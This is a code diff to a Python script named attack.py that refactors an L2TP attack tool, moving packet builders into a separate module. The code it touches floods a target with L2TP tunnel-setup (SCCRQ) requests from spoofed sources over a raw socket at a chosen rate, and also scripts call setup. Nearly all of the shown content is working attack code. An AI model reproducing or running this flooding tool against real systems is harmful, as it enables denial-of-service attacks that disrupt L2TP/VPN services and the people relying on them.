@@ -12,11 +12,14 @@ attack.py renegotiate TO SECONDS EVERY               a call whose LCP begins ane
 
 Prints what it did in one line."""
 import os
+import random
 import select
 import socket
 import struct
 import sys
 import time
+
+from l2tp import avp, packet, sccrq
 
 LIMIT = 60  # seconds, whatever was asked for
 
@@ -32,15 +35,6 @@ def mac(text):
 
 
 # --- L2TP
-
-
-def avp(kind, value):
-    return struct.pack(">HHH", 0x8000 | 6 + len(value), 0, kind) + value
-
-
-def sccrq(tunnel, host=b"x"):
-    body = avp(0, b"\0\1") + avp(2, b"\1\0") + avp(3, bytes(4)) + avp(7, host) + avp(9, tunnel)
-    return struct.pack(">HHHHHH", 0xC802, 12 + len(body), 0, 0, 0, 0) + body
 
 
 def ones_sum(data):
@@ -65,14 +59,14 @@ def heads(device, to_mac, to, sources, length):
 
 def flood_sccrq(device, to_mac, to, seconds, rate, sources):
     s, rate = packet_socket(device), int(rate)
-    head = heads(device, mac(to_mac), to, int(sources), len(sccrq(b"\0\1")))
+    head = heads(device, mac(to_mac), to, int(sources), len(sccrq(1)))
     begin, n, lost = time.monotonic(), 0, 0
     end = begin + min(float(seconds), LIMIT)
     while (now := time.monotonic()) < end:
         due = int((now - begin) * rate)
         for n in range(n + 1, due + 1):
             try:
-                s.send(head[n % len(head)] + sccrq(os.urandom(2)))
+                s.send(head[n % len(head)] + sccrq(random.randrange(65536)))
             except OSError:
                 lost += 1
         time.sleep(0.002)
@@ -110,8 +104,7 @@ class Caller:
         self.frames = []
 
     def control(self, sid, body):
-        head = struct.pack(">HHHHHH", 0xC802, 12 + len(body), self.tid, sid, self.ns, self.nr)
-        self.s.send(head + body)
+        self.s.send(packet(self.tid, sid, self.ns, self.nr, body))
 
     def hear(self):
         """One packet, if there is one."""
@@ -151,7 +144,7 @@ class Caller:
         self.ns += 1
 
     def place(self):
-        self.say(0, sccrq(b"\0\7", b"again")[12:], lambda: self.tid)
+        self.say(0, sccrq(7, b"again")[12:], lambda: self.tid)
         self.ns_of(0, avp(0, b"\0\3"))
         self.say(0, avp(0, b"\0\x0a") + avp(14, b"\0\5") + avp(15, bytes(4)), lambda: self.sid)
         self.ns_of(self.sid, avp(0, b"\0\x0c") + avp(24, b"\0\0\x25\x80") + avp(19, b"\0\0\0\1"))
